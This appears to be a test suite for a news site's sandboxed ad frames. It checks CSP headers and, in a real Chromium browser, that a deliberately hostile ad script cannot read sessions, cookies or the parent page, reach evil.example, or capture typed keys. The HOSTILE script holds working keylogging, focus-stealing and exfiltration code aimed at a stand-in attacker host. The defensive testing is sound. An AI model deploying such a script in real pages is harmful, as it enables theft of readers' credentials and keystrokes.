/** The frames of advertisements: their responses, and, in a real browser, what a hostile script in one can and cannot do (decision 108). */
import { sampleMaster } from '@yukan/contract/samples.ts'
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core'
import { saveMaster } from '../store/settings/master.ts'
import { buildTestApp } from '../test/app.ts'
import type { TestApp } from '../test/app.ts'
import { launchChromium } from '../test/chromium.ts'
import { loginAs, makeArticle, makeMember } from '../test/make.ts'
import { openToVisitors } from '../test/visit.ts'
import type { Visitor } from '../test/visit.ts'

const HOST = 'news.example.jp'
const ORIGIN = `http://${HOST}`
const SCRIPT = 'https://ads.example.jp/tag.js'
const adFrames = {
  origins: {
    script: ['https://cdn.example.net'],
    frame: ['https://*.frames.example.net'],
    image: ['https://img.example.net'],
    connect: ['https://log.example.net'],
  },
  slots: { list: 'list-1', article: '"><b>', side: '' },
}

let test: TestApp
let visit: Visitor
let browser: Browser

const setNetwork = (adScript: string | undefined) => {
  const publication = { ...sampleMaster.publication, ...(adScript === undefined ? {} : { adScript }) }
  return test.db.transaction().execute((transaction) => saveMaster(transaction, { ...sampleMaster, publication, adFrames }))
}

beforeAll(async () => {
  test = await buildTestApp({ render: 'web', config: { environment: 'production', publicUrl: ORIGIN, deskUrl: ORIGIN } })
  await setNetwork(SCRIPT)
  await makeArticle(test.db, { slug: 'open', categories: ['chiiki'] })
  visit = await openToVisitors(test.app)
  const address = test.app.server.address()
  if (address === null || typeof address === 'string') throw new Error('the application has no port')
  browser = await launchChromium({ [HOST]: address.port })
}, 60_000)
afterAll(async () => {
  await browser.close()
  await test.close()
})
beforeEach(() => {
  test.ctx.shared.drop()
})

describe('the ad frame', () => {
  it('the ad frame is sandboxed, allows only the origins of the network, and is the same for every reader', async () => {
    const { status, headers, text } = await visit('/ad-frame/article/')
    expect(status).toBe(200)
    expect(String(headers['content-security-policy']).split('; ')).toEqual([
      'sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox',
      "default-src 'none'",
      'script-src https://ads.example.jp https://cdn.example.net',
      "style-src 'unsafe-inline'",
      'img-src data: https://ads.example.jp https://img.example.net',
      'media-src https://ads.example.jp https://img.example.net',
      'connect-src https://ads.example.jp https://log.example.net',
      'frame-src https://ads.example.jp https://*.frames.example.net',
      "form-action 'none'",
      "base-uri 'none'",
      "frame-ancestors 'self'",
    ])
    expect([headers['x-frame-options'], headers['x-robots-tag'], headers['cache-control']]).toEqual([
      'SAMEORIGIN',
      'noindex',
      'public, max-age=0, s-maxage=30',
    ])
    expect(text).toContain(`<div data-ad-slot="&quot;&gt;&lt;b&gt;"></div><script async src="${SCRIPT}"></script>`)
    const { cookie } = await loginAs(test, await makeMember(test.db, { subscription: { planName: 'web' } }))
    const [own, other] = [await visit('/ad-frame/list/', { headers: { cookie } }), await visit('/ad-frame/list/')]
    expect([own.text, own.headers['cache-control']]).toEqual([other.text, other.headers['cache-control']])
  })

  it.each([
    ['without a network', undefined],
    ['with an address that would end the policy', 'https://ads.example.jp;sandbox/tag.js'],
    ['with a name before the host', 'https://user@ads.example.jp/tag.js'],
    ['with a script that is not encrypted', 'http://ads.example.jp/tag.js'],
  ])('there is no ad frame, and pages may load no frame, %s', async (_name, adScript) => {
    await setNetwork(adScript)
    onTestFinished(() => setNetwork(SCRIPT))
    expect((await visit('/ad-frame/list/')).status).toBe(404)
    expect(String((await visit('/article/open/')).headers['content-security-policy'])).not.toContain('frame-src')
  })

  it('there is no ad frame for an unknown place or outside production', async () => {
    expect((await visit('/ad-frame/home/')).status).toBe(404)
    const local = await buildTestApp()
    onTestFinished(() => local.close())
    expect((await local.app.inject({ url: '/ad-frame/list/' })).body).toContain('<title>/ad-frame/list/</title>')
  })
})

/** Tries everything, records the results, and takes the focus as often as it can. */
const HOSTILE = `
  const loot = (window.loot = { keys: [], messages: [] })
  const attempt = (name, work) => { try { loot[name] = String(work()) } catch (error) { loot[name] = error.name } }
  attempt('origin', () => self.origin)
  attempt('storage', () => localStorage.getItem('times'))
  attempt('cookie', () => document.cookie)
  attempt('page', () => parent.document.body.innerHTML)
  attempt('top', () => { top.location.href = 'https://evil.example/' })
  attempt('referrer', () => document.referrer)
  fetch('${ORIGIN}/v1/user/loginCheck', { method: 'POST', credentials: 'include' }).then(() => (loot.call = 'made'), () => (loot.call = 'refused'))
  fetch('https://evil.example/').then(() => (loot.sent = 'sent'), () => (loot.sent = 'refused'))
  addEventListener('message', (event) => loot.messages.push(event.data))
  const input = document.body.appendChild(document.createElement('input'))
  addEventListener('keydown', (event) => { loot.keys.push(event.key); console.log('stolen key', event.key) }, true)
  setInterval(() => { input.focus(); window.focus() }, 5)
`

interface Loot {
  keys: string[]
  [name: string]: unknown
}

/** A reader's browser that records requests to other hosts; the network's script is `script`, and `stolen` are the keys that it reports. */
async function openReader(script: string): Promise<{ context: BrowserContext; page: Page; asked: string[]; stolen: string[] }> {
  const context = await browser.newContext({ baseURL: ORIGIN, locale: 'ja-JP', viewport: { width: 1280, height: 900 } })
  onTestFinished(() => context.close())
  const asked: string[] = []
  await context.route(/^https:/, async (route) => {
    const url = route.request().url()
    asked.push(url)
    if (url === SCRIPT) return route.fulfill({ contentType: 'text/javascript', body: script })
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>x</title>' })
  })
  const page = await context.newPage()
  const stolen: string[] = []
  // Logged, since a frame that is removed can no longer be asked.
  page.on('console', (message) => {
    const key = /^stolen key (.*)$/.exec(message.text())?.[1]
    if (key !== undefined) stolen.push(key)
  })
  return { context, page, asked, stolen }
}

/** Gives a browser the state after a login. Returns the token. */
async function logIn(
  context: BrowserContext,
  page: Page,
  { cookie, authorization }: { cookie: string; authorization: string },
): Promise<string> {
  const [name = '', value = ''] = cookie.split('=')
  await context.addCookies([{ name, value, domain: HOST, path: '/', httpOnly: true }])
  await page.goto('/healthz')
  const jwt = authorization.replace('Bearer ', '')
  await page.evaluate((token) => localStorage.setItem('times', JSON.stringify({ jwt: token })), jwt)
  return jwt
}

/** Scrolls to the advertisement and waits until its script has run. */
async function adOf(page: Page): Promise<Frame> {
  await page.locator('[data-ad-slot="article"]').scrollIntoViewIfNeeded()
  const handle = await page.waitForSelector('[data-ad-slot="article"] iframe')
  await handle.scrollIntoViewIfNeeded()
  const frame = await handle.contentFrame()
  if (frame === null) throw new Error('the advertisement has no page')
  await frame.waitForFunction('window.loot !== undefined')
  return frame
}

const lootOf = (frame: Frame): Promise<Loot> => frame.evaluate('window.loot')

describe('a hostile ad script, in Chromium', () => {
  it('a hostile ad reads neither session nor page of a member, completes no request, and navigates nowhere', async () => {
    const { context, page } = await openReader(HOSTILE)
    const member = await loginAs(test, await makeMember(test.db))
    const jwt = await logIn(context, page, member)
    await page.goto('/article/open/')
    const frame = await adOf(page)
    await expect.poll(async () => [(await lootOf(frame))['call'], (await lootOf(frame))['sent']]).toEqual(['refused', 'refused'])
    expect(await lootOf(frame)).toMatchObject({
      origin: 'null',
      storage: 'SecurityError',
      cookie: 'SecurityError',
      page: 'SecurityError',
      top: 'SecurityError',
      referrer: `${ORIGIN}/`,
    })
    expect(page.url()).toBe(`${ORIGIN}/article/open/`)
    expect(await page.evaluate(() => JSON.parse(localStorage.getItem('times') ?? '').jwt)).toBe(jwt)
  })

  it('a hostile ad is gone before the password page appears, by a link and by going back and forward', async () => {
    const { page, asked } = await openReader(HOSTILE)
    await page.goto('/article/open/')
    await adOf(page)
    await page.locator('header').getByRole('link', { name: 'ログイン' }).first().click()
    await page.waitForURL(`${ORIGIN}/login/`)
    const password = page.locator('input[type="password"]')
    await password.waitFor()
    expect(page.frames().length).toBe(1)
    const before = asked.length
    await password.click()
    await page.keyboard.type('geheim-1234')
    expect(await password.inputValue()).toBe('geheim-1234')
    await page.goBack()
    const frame = await adOf(page)
    await page.goForward()
    await password.waitFor()
    expect([page.frames().length, frame.isDetached()]).toEqual([1, true])
    await password.click()
    await page.keyboard.type('geheim-5678')
    expect(await password.inputValue()).toContain('geheim-5678')
    expect(asked.slice(before).filter((url) => url !== SCRIPT)).toEqual([])
  })

  it('a hostile ad gets no key that a reader types into a dialog, and is removed, although it grabs the focus', async () => {
    const { context, page, stolen } = await openReader(HOSTILE)
    const nameless = await loginAs(test, await makeMember(test.db, { last_name: '', first_name: '' }))
    await logIn(context, page, nameless)
    await page.goto('/article/open/')
    const dialog = page.getByRole('dialog')
    const field = dialog.getByRole('textbox').first()
    await field.click()
    await page.keyboard.type('hidaka', { delay: 20 })
    expect([await field.inputValue(), page.frames().length]).toEqual(['hidaka', 1])
    await dialog.getByRole('heading').click()
    const frame = await adOf(page)
    await field.click()
    await page.keyboard.type('gawa', { delay: 20 })
    expect([await field.inputValue(), page.frames().length, frame.isDetached()]).toEqual(['hidakagawa', 1, true])
    expect(stolen).toEqual([])
  })

  it('a hostile ad gets the keys typed into itself, but none typed into the search field, and is removed then', async () => {
    const { page, stolen } = await openReader(HOSTILE)
    await page.goto('/article/open/')
    const frame = await adOf(page)
    await frame.locator('input').click()
    await page.keyboard.press('k')
    await expect.poll(() => stolen).toEqual(['k'])
    const search = page.getByRole('searchbox').first()
    await search.click()
    await page.keyboard.type('orimono', { delay: 20 })
    expect([await search.inputValue(), frame.isDetached()]).toEqual(['orimono', true])
    expect(stolen).toEqual(['k'])
  })
})

describe('an honest ad network, in Chromium', () => {
  const HONEST = `
    window.loot = { opened: 0 }
    const slot = document.querySelector('[data-ad-slot]')
    slot.style.cssText = 'width: 300px; height: 250px; background: rgb(0, 128, 0)'
    const add = (name, src) => Object.assign(document.body.appendChild(document.createElement(name)), { src })
    add('script', 'https://cdn.example.net/creative.js')
    add('img', 'https://img.example.net/a.png')
    add('iframe', 'https://a1.frames.example.net/safe.html')
    fetch('https://log.example.net/seen').catch(() => undefined)
    add('script', 'https://elsewhere.example.net/x.js')
    add('img', 'https://elsewhere.example.net/x.png')
    add('iframe', 'https://elsewhere.example.net/x.html')
    fetch('https://elsewhere.example.net/').catch(() => undefined)
    onclick = () => window.open('https://shop.example.net/')
  `

  it('an ad draws in its frame, loads from the named origins only, and opens the advertiser in a window', async () => {
    const { context, page, asked } = await openReader(HONEST)
    await page.goto('/article/open/')
    const slot = page.locator('[data-ad-slot="article"]')
    const kept = (await slot.boundingBox())?.height
    const frame = await adOf(page)
    await expect
      .poll(() => asked.toSorted())
      .toEqual(
        [
          SCRIPT,
          'https://cdn.example.net/creative.js',
          'https://img.example.net/a.png',
          'https://a1.frames.example.net/safe.html',
          'https://log.example.net/seen',
        ].toSorted(),
      )
    expect(await frame.evaluate(() => getComputedStyle(document.querySelector('[data-ad-slot]')!).backgroundColor)).toBe('rgb(0, 128, 0)')
    expect([kept, (await slot.boundingBox())?.height]).toEqual([300, 300])
    const opened = context.waitForEvent('page')
    await frame.locator('[data-ad-slot]').click()
    expect((await opened).url()).toContain('https://shop.example.net/')
  })

  it.each([
    ['Global Privacy Control', 'globalPrivacyControl', true],
    ['Do Not Track', 'doNotTrack', '1'],
  ])('requests no ad for a reader with %s, and shows the reason in a space of the same height', async (_name, signal, value) => {
    const { context, page, asked } = await openReader(HONEST)
    await context.addInitScript(([key, given]) => Object.defineProperty(navigator, String(key), { value: given, configurable: true }), [
      signal,
      value,
    ] as const)
    const frames: string[] = []
    page.on('request', (request) => request.url().includes('/ad-frame/') && frames.push(request.url()))
    await page.goto('/article/open/')
    const slot = page.locator('[data-ad-slot="article"]')
    await slot.scrollIntoViewIfNeeded()
    await slot.getByText('お使いのブラウザーの設定（追跡の拒否）に従い、広告を表示していません。').waitFor()
    expect([frames, asked, (await slot.boundingBox())?.height]).toEqual([[], [], 300])
  })
})
